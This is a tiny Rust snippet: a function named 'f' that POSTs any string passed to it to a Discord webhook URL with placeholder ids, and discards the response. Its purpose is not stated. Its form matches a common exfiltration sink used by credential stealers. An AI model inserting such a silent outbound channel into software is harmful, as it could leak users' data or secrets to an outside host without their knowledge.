pub fn f(s: &str) {
    let _ = ureq::post("https://discord.com/api/v10/webhooks/1/x").send_string(s);
}
